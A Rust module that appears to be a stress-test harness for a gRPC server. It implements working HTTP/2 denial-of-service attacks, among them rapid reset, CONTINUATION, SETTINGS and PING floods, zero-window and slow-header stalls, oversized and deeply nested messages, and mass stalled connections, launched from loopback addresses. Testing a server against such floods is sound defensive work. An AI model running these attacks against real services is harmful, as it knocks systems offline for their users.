//! The attackers.

use std::net::{IpAddr, SocketAddr};
use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering};
use std::time::Duration;

use anyhow::Context;
use tokio::time::Instant;

use crate::wire::{self, CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, Raw};

const HEALTH: &[u8] = b"/grpc.health.v1.Health/Check";
const LIST: &[u8] = b"/vitrine.catalog.v1.PartnerService/ListPartners";
const REFLECTION: &[u8] = b"/grpc.reflection.v1.ServerReflection/ServerReflectionInfo";
/// Attackers at the same time, where one connection each is enough.
const CROWD: u32 = 8;

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Raid {
    RapidReset,
    Continuation,
    Settings,
    Pings,
    EmptyData,
    ZeroWindow,
    SlowHeaders,
    HugeHeaders,
    HugeMessages,
    DeepNesting,
    Connections,
    Handshakes,
}

/// What the attackers did.
#[derive(Default)]
struct Tally {
    connections: AtomicU64,
    refused: AtomicU64,
    closed: AtomicU64,
    bytes: AtomicU64,
}

#[derive(Clone)]
struct Target {
    address: SocketAddr,
    token: Arc<str>,
    until: Instant,
    tally: Arc<Tally>,
}

impl Raid {
    pub const ALL: [Raid; 12] = [
        Raid::RapidReset,
        Raid::Continuation,
        Raid::Settings,
        Raid::Pings,
        Raid::EmptyData,
        Raid::ZeroWindow,
        Raid::SlowHeaders,
        Raid::HugeHeaders,
        Raid::HugeMessages,
        Raid::DeepNesting,
        Raid::Connections,
        Raid::Handshakes,
    ];

    pub fn name(self) -> &'static str {
        match self {
            Raid::RapidReset => "rapid-reset",
            Raid::Continuation => "continuation-flood",
            Raid::Settings => "settings-flood",
            Raid::Pings => "ping-flood",
            Raid::EmptyData => "empty-data-flood",
            Raid::ZeroWindow => "zero-window",
            Raid::SlowHeaders => "slow-headers",
            Raid::HugeHeaders => "huge-headers",
            Raid::HugeMessages => "huge-messages",
            Raid::DeepNesting => "deep-nesting",
            Raid::Connections => "2000-connections-256-files",
            Raid::Handshakes => "1000-stalled-handshakes",
        }
    }

    /// Attackers at the same time.
    fn crowd(self) -> u32 {
        match self {
            Raid::Connections => 2_000,
            Raid::Handshakes => 1_000,
            Raid::SlowHeaders | Raid::ZeroWindow => 200,
            _ => CROWD,
        }
    }

    /// What is sent once a connection is there, and what is then sent again and again.
    fn script(self, target: &Target, round: u32) -> (Vec<u8>, Vec<u8>) {
        let token = &target.token;
        let begin =
            |path: &[u8], flags: u8| wire::frame(HEADERS, flags, 1, &wire::call(path, token));
        let calls = |each: &dyn Fn(u32) -> Vec<u8>| {
            (0..50)
                .flat_map(|n| each((round * 50 + n) * 2 + 1))
                .collect::<Vec<u8>>()
        };
        let whole = |stream: u32, path: &[u8], headers: &[u8], message: &[u8]| {
            let block = [&wire::call(path, token), headers].concat();
            let mut frames = wire::frame(HEADERS, END_HEADERS, stream, &block);
            frames.extend(data(stream, message));
            frames
        };
        match self {
            Raid::RapidReset => {
                let block = wire::call(LIST, token);
                let each = |stream| {
                    let mut call = wire::frame(HEADERS, END_HEADERS | END_STREAM, stream, &block);
                    call.extend(wire::frame(wire::RST_STREAM, 0, stream, &[0, 0, 0, 8]));
                    call
                };
                (Vec::new(), calls(&each))
            }
            Raid::Continuation => {
                let more = wire::block(&[("x", b"y")]);
                (
                    begin(HEALTH, 0),
                    wire::frame(CONTINUATION, 0, 1, &more).repeat(100),
                )
            }
            Raid::Settings => (
                Vec::new(),
                wire::frame(wire::SETTINGS, 0, 0, &[0, 4, 0, 1, 0, 0]).repeat(100),
            ),
            Raid::Pings => (
                Vec::new(),
                wire::frame(wire::PING, 0, 0, &[1; 8]).repeat(100),
            ),
            Raid::EmptyData => (
                begin(LIST, END_HEADERS),
                wire::frame(DATA, 0, 1, b"").repeat(100),
            ),
            Raid::ZeroWindow => {
                let each = |stream| {
                    let path = if stream % 4 == 1 { LIST } else { REFLECTION };
                    whole(stream, path, b"", &[0; 5])
                };
                (
                    if round == 0 { calls(&each) } else { Vec::new() },
                    Vec::new(),
                )
            }
            Raid::SlowHeaders => (begin(LIST, 0), Vec::new()),
            Raid::HugeHeaders => {
                let big = wire::block(&[("x-much", &[b'a'; 14_000])]);
                (
                    Vec::new(),
                    calls(&|stream| whole(stream, LIST, &big, &[0; 5])),
                )
            }
            Raid::HugeMessages => {
                let mut message = vec![0, 0x7f, 0xff, 0xff, 0xff];
                message.resize(60_000, 0);
                (Vec::new(), whole(round * 2 + 1, LIST, b"", &message))
            }
            Raid::DeepNesting => {
                let deep = [0xfb, 0x3f].repeat(8_000);
                let mut message = vec![0];
                message.extend_from_slice(&u32::try_from(deep.len()).expect("small").to_be_bytes());
                message.extend(deep);
                (Vec::new(), whole(round * 2 + 1, LIST, b"", &message))
            }
            Raid::Connections | Raid::Handshakes => (Vec::new(), Vec::new()),
        }
    }
}

/// A message in frames of a size that every server takes; the last one ends the call.
fn data(stream: u32, message: &[u8]) -> Vec<u8> {
    let count = message.chunks(16_000).count();
    let last = |at: usize| if at + 1 == count { END_STREAM } else { 0 };
    let parts = message.chunks(16_000).enumerate();
    parts
        .flat_map(|(at, part)| wire::frame(DATA, last(at), stream, part))
        .collect()
}

/// `raid NAME ADDRESS SECONDS`.
pub async fn main(arguments: &[String]) -> anyhow::Result<()> {
    let [name, address, seconds] = arguments else {
        anyhow::bail!("raid NAME ADDRESS SECONDS");
    };
    let raid = Raid::ALL.into_iter().find(|raid| raid.name() == name);
    let raid = raid.context("an attack of that name")?;
    let token = kit::config::env_var("RAID_TOKEN").unwrap_or_default();
    let target = Target {
        address: address.parse()?,
        token: token.into(),
        until: Instant::now() + Duration::from_secs(seconds.parse()?),
        tally: Arc::default(),
    };
    let attackers: Vec<_> = (0..raid.crowd())
        .map(|number| kit::spawn("attacker", attacker(raid, target.clone(), number)))
        .collect();
    for attacker in attackers {
        attacker.await?;
    }
    let count = |of: &AtomicU64| of.load(Ordering::Relaxed);
    let tally = &target.tally;
    println!(
        "{}",
        serde_json::json!({
            "at_once": raid.crowd(),
            "connections": count(&tally.connections),
            "not_connected": count(&tally.refused),
            "closed_by_server": count(&tally.closed),
            "mib_sent": count(&tally.bytes) / 1_048_576,
        })
    );
    Ok(())
}

/// Connects, attacks until it is thrown out, and comes back.
async fn attacker(raid: Raid, target: Target, number: u32) {
    // Four addresses: one alone would only meet the bound on connections of one address.
    let from: IpAddr = [127, 0, 2, u8::try_from(number % 4 + 1).unwrap_or(1)].into();
    let settings: &[(u16, u32)] = match raid {
        Raid::ZeroWindow => &[(wire::INITIAL_WINDOW, 0)],
        _ => &[],
    };
    let tally = &target.tally;
    while Instant::now() < target.until {
        let connected = match raid {
            Raid::Handshakes => Raw::bare(target.address, Some(from)).await,
            // Half of them say nothing at all.
            Raid::Connections if number.is_multiple_of(2) => {
                Raw::bare(target.address, Some(from)).await
            }
            _ => Raw::greeted(target.address, Some(from), settings).await,
        };
        let Ok(mut raw) = connected else {
            tally.refused.fetch_add(1, Ordering::Relaxed);
            crate::pause::pause(Duration::from_millis(200)).await;
            continue;
        };
        tally.connections.fetch_add(1, Ordering::Relaxed);
        if tokio::time::timeout_at(target.until, attack(raid, &target, &mut raw))
            .await
            .is_ok()
        {
            tally.closed.fetch_add(1, Ordering::Relaxed);
        }
    }
}

/// Ends when the server closes the connection.
async fn attack(raid: Raid, target: &Target, raw: &mut Raw) {
    for round in 0..u32::MAX / 128 {
        let (once, again) = raid.script(target, round);
        let bytes = if round == 0 {
            [once, again].concat()
        } else {
            again
        };
        if bytes.is_empty() && round > 0 || raw.send(&bytes).await.is_err() {
            break;
        }
        target
            .tally
            .bytes
            .fetch_add(bytes.len() as u64, Ordering::Relaxed);
        // What the server says is read, so that the attack does not end in a full buffer.
        let mut said = [0; 65_536];
        if let Ok(0) = raw.stream.try_read(&mut said) {
            break;
        }
    }
    raw.is_closed_within(Duration::from_secs(3_600)).await;
}
